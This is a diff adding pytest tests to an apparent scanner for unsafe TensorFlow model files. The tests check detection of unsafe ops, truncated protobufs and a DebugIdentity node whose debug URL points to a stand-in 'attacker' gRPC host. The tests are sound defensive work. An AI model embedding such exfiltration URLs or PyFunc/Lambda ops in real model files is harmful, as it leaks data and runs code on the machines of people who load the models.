@@ -256,3 +256,40 @@ def test_other_protobufs_are_not_tensorflow(data: bytes) -> None:
         Format.TF_GRAPHDEF,
         Format.KERAS_METADATA,
     )
+
+
+def test_list_attributes_are_evidence(tmp_path: Path) -> None:
+    urls = ld(1, s(2, "grpc://attacker:6064") + s(2, "file:///tmp/dump"))
+    body = graph(node("dbg", "DebugIdentity", "x", debug_urls=urls))
+    result = scan(_write(tmp_path, saved_model(meta_graph(body))))
+    assert rule_ids(result) == ["TF-UNSAFE-OP"]
+    assert "grpc://attacker:6064" in result.findings[0].evidence["attributes"]
+
+
+@pytest.mark.parametrize(
+    ("data", "name", "fmt"),
+    [
+        (graph(node("cb", "PyFunc", "x")) + b"\x0a\xff", "frozen.pb", "tf-graphdef"),
+        (
+            keras_metadata(("root.layer-0", "_tf_keras_layer", LAMBDA_LAYER)) + b"\x0a\xff",
+            "keras_metadata.pb",
+            "keras-metadata",
+        ),
+    ],
+    ids=["graphdef", "keras-metadata"],
+)
+def test_truncated_graphdef_and_metadata_keep_what_came_before(
+    tmp_path: Path, data: bytes, name: str, fmt: str
+) -> None:
+    result = scan(_write(tmp_path, data, name))
+    assert result.format == fmt
+    assert "TF-PROTOBUF-MALFORMED" in rule_ids(result)
+    assert result.max_severity == Severity.CRITICAL or "TF-UNSAFE-OP" in rule_ids(result)
+
+
+def test_a_savedmodel_cut_in_half_is_reported_not_passed(tmp_path: Path) -> None:
+    data = _benign_graph()
+    result = scan(_write(tmp_path, data[: len(data) // 2]))
+    assert result.format == "tf-savedmodel"
+    assert rule_ids(result) == ["TF-PROTOBUF-MALFORMED"]
+    assert result.gaps
